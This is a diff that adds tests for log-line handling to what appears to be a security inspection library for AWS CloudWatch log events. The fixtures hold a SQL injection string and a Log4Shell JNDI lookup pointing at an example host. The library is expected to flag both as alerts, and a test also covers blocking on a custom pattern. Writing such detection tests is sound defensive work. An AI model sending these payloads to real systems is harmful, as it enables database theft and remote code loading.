@@ -55,6 +55,35 @@ describe('modes', () => {
   });
 });
 
+describe('log lines', () => {
+  const lines = (...messages: readonly string[]) => {
+    const logs = {
+      messageType: 'DATA_MESSAGE',
+      owner: '123456789012',
+      logGroup: '/aws/lambda/a',
+      logStream: 's',
+      subscriptionFilters: ['f'],
+      logEvents: messages.map((message, id) => ({ id: String(id), timestamp: 1, message })),
+    };
+    return { awslogs: { data: gzipSync(JSON.stringify(logs)).toString('base64') } };
+  };
+
+  test('are told and do not block, whatever they quote', () => {
+    const event = lines(
+      `GET /?q=${attack} 403`,
+      "id=1' UNION SELECT a FROM users -- ",
+      'a $'.concat('{jndi:ldap://198.51.100.7/a}'),
+    );
+    expect(inspectEvent(event, policy({ mode: 'block' })).kind).toBe('alert');
+    expect(inspectEvent(queued(attack), policy({ mode: 'block' })).kind).toBe('block');
+  });
+
+  test("block by the user's own pattern", () => {
+    const rules = [{ id: 'own', over: 'event', pattern: 'INT-\\d{6}' }] as const;
+    expect(inspectEvent(lines('a INT-123456'), policy({ mode: 'block', rules })).kind).toBe('block');
+  });
+});
+
 describe('batches', () => {
   test('only the records that carry the attack are blocked', () => {
     expect(inspectEvent(queued('fine', attack, 'fine too'), policy({ mode: 'block' }))).toMatchObject({
